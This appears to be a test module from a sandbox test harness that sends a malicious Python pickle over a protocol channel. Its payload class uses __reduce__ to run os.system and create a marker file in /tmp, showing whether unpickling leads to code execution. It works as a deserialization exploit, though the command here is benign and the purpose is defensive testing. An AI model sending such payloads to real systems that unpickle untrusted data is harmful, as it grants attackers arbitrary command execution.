"""Sends a pickle that would leave a file where it is unpacked.

kind: pickle payloads
sandbox: protocol
"""

import os
import pickle

from attack import MARK, Attack


class Payload:
    def __reduce__(self):
        return os.system, (f"touch /tmp/{MARK}-pickle",)


class Pickle(Attack):
    def attack(self, view):
        data = pickle.dumps(Payload())
        os.write(3, len(data).to_bytes(4) + data)
        return Payload()
